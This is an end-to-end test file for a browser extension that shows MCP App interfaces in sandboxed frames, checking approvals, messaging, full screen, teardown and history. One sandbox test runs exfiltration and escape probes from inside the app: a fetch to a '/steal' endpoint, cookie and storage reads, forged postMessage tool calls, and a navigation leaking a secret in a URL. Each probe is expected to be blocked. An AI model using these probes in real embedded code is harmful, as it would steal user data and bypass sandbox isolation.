/**
 * MCP Apps in Chromium: a tool's interface (the fixture chart app, built with ext-apps) renders
 * in its tool card inside Patchbay's sandbox, hears the tool's input and result, calls back its
 * server's tool under the person's approval, sends a chat message and opens a link only once
 * the person agrees, tells the model what it shows, goes full screen, cannot reach Patchbay or
 * hosts outside its policy, is torn down when its card goes, and comes back from history as a
 * snapshot the person can reload.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FrameLocator, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startModernServer, type ModernServer } from '../fixtures/modern-server';
import { startScriptedOpenAI, type ScriptedOpenAI } from '../fixtures/scripted-openai';
import { chatWithServer } from './chat-setup';
import { closeAfterTest, freshExtensionPerTest } from './harness';

const session = freshExtensionPerTest();
let model: ScriptedOpenAI;
let charts: ModernServer;
let page: Page;
let serverId: string;
/** A host the app's policy does not name; it must never hear from the app. */
let outside: Server;
let outsideUrl: string;
const outsideVisits: string[] = [];
/** What Chromium logs when the app's policy blocks its fetch of the outside host. */
const blockedFetch = () =>
  new RegExp(
    `(Connecting to '|Fetch API cannot load |Framing ')${outsideUrl.replace(/\./g, '\\.')}/`,
  );

const composer = () => page.getByRole('combobox', { name: 'Message' });

async function send(text: string) {
  await composer().fill(text);
  await page.getByRole('button', { name: 'Send' }).click();
}

const chartCard = () => page.locator('.tool-card[data-tool-name="show_chart"]').last();
/** The app's own document: the sandbox proxy's frame, then the app's frame inside it. */
const appFrame = (card: Locator = chartCard()): FrameLocator =>
  card.locator('iframe.app-frame').contentFrame().locator('iframe').contentFrame();

/** Beacon requests the app made to its server (the one origin its policy allows). */
const beacons = () =>
  charts.requests.filter((entry) => entry.path.startsWith('/beacon/')).map((entry) => entry.path);

interface TabsApi {
  query(filter: { url?: string }): Promise<{ id: number; url?: string }[]>;
  remove(ids: number[]): Promise<void>;
}

/** The browser's tabs, as the extension sees them (tabs it opens are not Playwright pages). */
const tabUrls = () =>
  page.evaluate(async () => {
    const { tabs } = (globalThis as unknown as { chrome: { tabs: TabsApi } }).chrome;
    return (await tabs.query({})).map((tab) => tab.url ?? '');
  });

/** Tool calls the server received, by tool name. */
const callsOf = (name: string) =>
  charts.requests.filter(
    (entry) =>
      (entry.body as { method?: string; params?: { name?: string } } | undefined)?.method ===
        'tools/call' && (entry.body as { params?: { name?: string } }).params?.name === name,
  ).length;

/** A new chat where the model shows a chart of `days` days and the person approves it. */
async function showChart(days: number) {
  await page.getByRole('button', { name: 'New chat', exact: true }).click();
  model.script(
    { type: 'tool-call', toolName: `${serverId}__show_chart`, input: { days } },
    { type: 'text', text: 'Here is your chart.' },
  );
  await send(`Chart the last ${days} days`);
  await chartCard().getByRole('button', { name: 'Approve' }).click();
  const app = appFrame();
  await app.getByText(`Showing ${days} points`).waitFor();
  await page.getByText('Here is your chart.').waitFor();
  return app;
}

/** A host outside every app's policy, for the file; it only records who reached it. */
beforeAll(async () => {
  outside = createServer((incoming, outgoing) => {
    outsideVisits.push(incoming.url ?? '');
    outgoing.writeHead(200, { 'access-control-allow-origin': '*' }).end('reached');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((resolve) => outside?.close(resolve));
});

/** Every test: its own model and chart server, and the chat set up with the server on. */
beforeEach(async () => {
  outsideVisits.length = 0;
  [model, charts] = await Promise.all([
    startScriptedOpenAI().then(closeAfterTest),
    startModernServer({ legacy: 'stateless', chartApp: true, name: 'charts' }).then(closeAfterTest),
  ]);
  page = await session.openSidePanel();
  serverId = await chatWithServer(session, page, {
    modelBaseUrl: model.baseUrl,
    serverName: 'Charts',
    serverUrl: charts.mcpUrl,
  });
});

describe('an MCP App in its tool card', () => {
  it('renders with the tool’s input and result, and knows its host', async () => {
    const app = await showChart(5);
    await app.getByText('Input: 5 days').waitFor();
    await app.getByText('Host: Patchbay, en-US').waitFor();
    const view = chartCard().getByRole('region', { name: 'Chart app' });
    await expect(view.getAttribute('data-app-phase')).resolves.toBe('running');
    // The frame grows to the app's own height (autoResize: the app reports it on a later frame
    // than the one it draws), within the card's limit.
    const height = () =>
      chartCard()
        .locator('.app-frame-box')
        .evaluate((box) => box.getBoundingClientRect().height);
    await expect.poll(height).toBeGreaterThan(160);
    expect(await height()).toBeLessThanOrEqual(600);
    await session.screenshot(page, 'mcp-app');
  });

  it('shows while its tool runs, and hears when the call is stopped', async () => {
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    model.script({ type: 'tool-call', toolName: `${serverId}__live_chart`, input: { days: 2 } });
    await send('Chart the numbers live');
    const card = page.locator('.tool-card[data-tool-name="live_chart"]').last();
    await card.getByRole('button', { name: 'Approve' }).click();
    const app = appFrame(card);
    await app.getByText('Input: 2 days').waitFor();
    await expect(card.getAttribute('data-tool-state')).resolves.toBe('running');
    await page.getByRole('button', { name: 'Stop' }).click();
    await app.getByText('Cancelled: The person stopped the chat.').waitFor();
    await expect(app.getByText('No data yet').count()).resolves.toBe(1);
  });

  it('calls back its server’s tool only after the person approves, and never another’s', async () => {
    const app = await showChart(4);
    const before = callsOf('refresh_chart');
    await app.getByRole('button', { name: 'Refresh' }).click();
    const prompt = page.getByRole('group', { name: 'Let Chart run refresh_chart?' });
    await prompt.waitFor();
    expect(callsOf('refresh_chart')).toBe(before);
    // Its buttons take a click once the person could read it.
    await expect.poll(() => prompt.getByRole('button', { name: 'Approve' }).isEnabled()).toBe(true);
    await session.screenshot(page, 'mcp-app-approval');
    await prompt.getByRole('button', { name: 'Approve' }).click();
    await app.getByText('refresh_chart: refreshed').waitFor();
    await app.getByText('Showing 3 points').waitFor();
    expect(callsOf('refresh_chart')).toBe(before + 1);

    await app.getByRole('button', { name: 'Refresh' }).click();
    await prompt.getByRole('button', { name: 'Deny' }).click();
    await app.getByText(/refresh_chart refused: .*denied refresh_chart/).waitFor();
    expect(callsOf('refresh_chart')).toBe(before + 1);

    // A tool for the model alone is refused without asking, and never reaches the server.
    await app.getByRole('button', { name: 'Summarize' }).click();
    await app.getByText(/summarize_chart refused: .*for the model alone/).waitFor();
    expect(callsOf('summarize_chart')).toBe(0);
  });

  it('sends a message to the chat and tells the model what it shows, once the person agrees', async () => {
    const app = await showChart(6);
    await app.getByRole('button', { name: 'Tell the model' }).click();
    await app.getByText('Context shared').waitFor();
    await chartCard().getByText('What the app told the model').click();
    await chartCard().getByText('The person is looking at day 3.').waitFor();

    model.script({ type: 'text', text: 'Day 3 dipped because of the holiday.' });
    const requests = model.requests.length;
    await app.getByRole('button', { name: 'Ask about day 3' }).click();
    const prompt = page.getByRole('group', { name: "Send Chart's message?" });
    await prompt.getByText('Why did day 3 dip?').waitFor();
    expect(model.requests.length).toBe(requests);
    await prompt.getByRole('button', { name: 'Send', exact: true }).click();
    await app.getByText('Message sent').waitFor();
    await page.getByText('Sent from the app Chart (Charts)').waitFor();
    await page.getByText('Day 3 dipped because of the holiday.').waitFor();
    const sent = JSON.stringify(model.requests.at(-1)?.body ?? {});
    expect(sent).toContain('Why did day 3 dip?');
    // The app's context reached the model fenced as the app's words.
    expect(sent).toMatch(/<app-context server=\\"Charts\\" tool=\\"show_chart\\">/);
    expect(sent).toContain('The person is looking at day 3.');

    await app.getByRole('button', { name: 'Ask about day 3' }).click();
    await prompt.getByRole('button', { name: 'Don’t send' }).click();
    await app.getByText('Message not sent').waitFor();
  });

  it('opens a link in a new tab only after the person agrees', async () => {
    const app = await showChart(3);
    await app.getByRole('button', { name: 'Open docs' }).click();
    const prompt = page.getByRole('group', { name: 'Let Chart open a page?' });
    await prompt.getByText(`${charts.url}/beacon/docs`).waitFor();
    expect(beacons()).not.toContain('/beacon/docs');
    await prompt.getByRole('button', { name: 'Cancel' }).click();
    await app.getByText('Link not opened').waitFor();

    await app.getByRole('button', { name: 'Open docs' }).click();
    await prompt.getByRole('button', { name: 'Open page' }).click();
    await app.getByText('Link opened').waitFor();
    // A tab of its own: the page loads (its server hears it) and the panel stays as it was.
    await expect.poll(() => beacons()).toContain('/beacon/docs');
    await expect.poll(() => tabUrls()).toContain(`${charts.url}/beacon/docs`);
    await page.evaluate(async (url) => {
      const { tabs } = (globalThis as unknown as { chrome: { tabs: TabsApi } }).chrome;
      const found = await tabs.query({ url });
      await tabs.remove(found.map((tab) => tab.id));
    }, `${charts.url}/beacon/docs`);
  });

  it('goes full screen in the panel and back', async () => {
    const app = await showChart(2);
    const view = chartCard().getByRole('region', { name: 'Chart app' });
    await view.getByRole('button', { name: 'Full screen' }).click();
    const dialog = page.getByRole('dialog', { name: 'Chart app' });
    await dialog.waitFor();
    // The app hears of its new mode after the panel shows the dialog.
    await expect.poll(() => app.locator('body').getAttribute('data-mode')).toBe('fullscreen');
    await session.screenshot(page, 'mcp-app-fullscreen');
    const size = await dialog.evaluate((element) => element.getBoundingClientRect());
    expect(size.width).toBe(page.viewportSize()?.width);
    await dialog.getByRole('button', { name: 'Exit full screen' }).click();
    await expect.poll(() => app.locator('body').getAttribute('data-mode')).toBe('inline');
    // The app may ask for it too.
    await app.getByRole('button', { name: 'Full screen' }).click();
    await app.getByText('Mode: fullscreen').waitFor();
    await dialog.getByRole('button', { name: 'Exit full screen' }).click();
    await dialog.waitFor({ state: 'detached' });
  });

  it('cannot reach Patchbay, its storage, the panel or hosts its policy does not name', async () => {
    // Chromium reports the blocked fetch on the console, again later as the frame goes away.
    session.expectConsoleError(blockedFetch());
    await showChart(2);
    const reported = page.waitForEvent('console', (message) => blockedFetch().test(message.text()));
    const frame = page
      .frames()
      .find((candidate) => candidate.url() === 'about:srcdoc' && candidate.parentFrame());
    if (!frame) throw new Error('The app’s frame is missing.');
    const probes = await frame.evaluate(async (outsideHost) => {
      const attempt = async (action: () => unknown) => {
        try {
          await action();
          return 'reached';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      const scope = globalThis as unknown as {
        chrome?: { runtime?: unknown; storage?: unknown };
      };
      return {
        origin: location.origin,
        runtime: typeof scope.chrome?.runtime,
        storage: typeof scope.chrome?.storage,
        localStorage: await attempt(() => localStorage.length),
        cookie: await attempt(() => document.cookie),
        panel: await attempt(() => window.top?.document.title),
        proxy: await attempt(() => window.parent.document.title),
        outside: await attempt(() => fetch(`${outsideHost}/steal`)),
      };
    }, outsideUrl);
    expect(probes).toEqual({
      origin: 'null',
      runtime: 'undefined',
      storage: 'undefined',
      localStorage: 'SecurityError',
      cookie: 'SecurityError',
      panel: 'SecurityError',
      proxy: 'SecurityError',
      outside: 'TypeError',
    });
    expect(outsideVisits).toEqual([]);
    await reported;
    // The sandbox page around it has no extension APIs either.
    const proxy = frame.parentFrame();
    await expect(
      proxy?.evaluate(
        () => typeof (globalThis as { chrome?: { runtime?: unknown } }).chrome?.runtime,
      ),
    ).resolves.toBe('undefined');
    // Messages it posts past its sandbox to the panel are not heard: nothing runs.
    const echoes = callsOf('echo');
    await frame.evaluate(() => {
      const forged = {
        jsonrpc: '2.0',
        id: 999,
        method: 'tools/call',
        params: { name: 'echo', arguments: { text: 'forged' } },
      };
      window.top?.postMessage(forged, '*');
      window.parent.postMessage(
        {
          jsonrpc: '2.0',
          method: 'ui/notifications/sandbox-resource-ready',
          params: { html: 'x' },
        },
        '*',
      );
    });
    await appFrame().getByRole('button', { name: 'Refresh' }).click();
    await page
      .getByRole('group', { name: 'Let Chart run refresh_chart?' })
      .getByRole('button', { name: 'Deny' })
      .click();
    await appFrame()
      .getByText(/refresh_chart refused/)
      .waitFor();
    expect(callsOf('echo')).toBe(echoes);
    await page.getByRole('group', { name: /run echo/ }).waitFor({ state: 'detached' });
    // Nor can it leave for another address with what it knows (a navigation is not a fetch,
    // but the sandbox allows no frames): nothing reaches the host, and the sandbox drops the
    // frame that tried.
    const refused = page.waitForEvent('console', (message) =>
      message.text().startsWith(`Framing '${outsideUrl}/'`),
    );
    await frame.evaluate((target) => {
      location.href = target;
    }, `${outsideUrl}/leak?secret=day3`);
    await refused;
    await expect.poll(() => proxy?.childFrames().length).toBe(0);
    expect(outsideVisits).toEqual([]);
  });

  it('is torn down when its card leaves the conversation', async () => {
    await showChart(3);
    const before = beacons().filter((path) => path === '/beacon/teardown').length;
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    await expect
      .poll(() => beacons().filter((path) => path === '/beacon/teardown').length)
      .toBe(before + 1);
    // Every retired frame is gone once its app answered, or after its grace time.
    await expect.poll(() => page.locator('iframe.app-frame').count(), { timeout: 5_000 }).toBe(0);
  });

  it('comes back from history as a snapshot, and runs again on Reload app', async () => {
    await showChart(7);
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    await page.getByRole('button', { name: 'Chats', exact: true }).click();
    await page.getByRole('button', { name: 'Chart the last 7 days', exact: true }).click();
    const view = chartCard().getByRole('region', { name: 'Chart app' });
    await expect(view.getAttribute('data-app-phase')).resolves.toBe('saved');
    await expect(chartCard().locator('iframe').count()).resolves.toBe(0);
    await view.getByRole('button', { name: 'Reload app' }).click();
    const app = appFrame();
    await app.getByText('Showing 7 points').waitFor();
    await app.getByText('Input: 7 days').waitFor();
  });
});
